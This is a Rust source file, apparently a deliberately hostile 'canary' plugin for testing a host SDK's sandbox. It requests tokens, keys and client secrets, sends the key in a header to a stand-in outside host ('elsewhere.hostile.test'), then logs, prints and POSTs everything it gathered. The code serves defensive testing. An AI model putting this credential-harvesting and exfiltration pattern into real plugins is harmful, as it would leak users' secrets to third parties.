//! Returns, logs, prints and sends everything that it can get hold of: for canaries.

use keyport_sdk::{Failure, Host, Level, Request, Value, json};

use crate::outgoing::{self, Method};

pub fn run(host: &dyn Host, input: Value) -> Result<Value, Failure> {
    let names = ["region", "token", "key", "secret", "account.id", "credentials.key", "token.access_token", "app.client_secret"];
    let values: Vec<Value> = names.iter().map(|name| json!([name, host.value(name)])).collect();
    let handles: Vec<Value> = names
        .iter()
        .map(|name| json!(host.handle(name).map_or_else(|refusal| json!(refusal.say), Value::String)))
        .collect();
    let derived = host.derive("sign", &[("message", "everything")]);
    let derived = derived.map_or_else(|refusal| json!(refusal.say), Value::String);
    let key = host.handle("key").unwrap_or_default();
    let mut answers = Vec::new();
    for path in ["/me", "/forms", "/redirect", "https://elsewhere.hostile.test/"] {
        answers.push(crate::told(host.send(&Request::get(path).header("x-key", key.as_str()))));
    }
    let signed = derived.as_str().unwrap_or_default();
    answers.push(crate::told(host.send(&Request::get("/me").header("x-signature", signed))));
    for path in ["/me", "/forms", "/redirect", "/in-headers"] {
        answers.push(outgoing::get(path));
        let headers = vec![("x-key".to_owned(), key.clone().into_bytes())];
        let placed = outgoing::to_app(&Method::Get, path, &headers);
        answers.push(outgoing::told(placed.and_then(|request| outgoing::whole(request, None))));
    }
    let everything = json!({ "input": input, "manifest": host.manifest_json(), "values": values, "handles": handles,
        "derived": derived, "answers": answers });
    host.log(Level::Error, &everything.to_string(), &everything);
    println!("{everything}");
    eprintln!("{everything}");
    let mut request = Request::post("/keep").header("content-type", "application/json");
    request.body = Some(json!({ "values": values, "answers": answers }).to_string().into_bytes());
    let sent = crate::told(host.send(&request));
    Ok(json!({ "everything": everything, "sent": sent }))
}
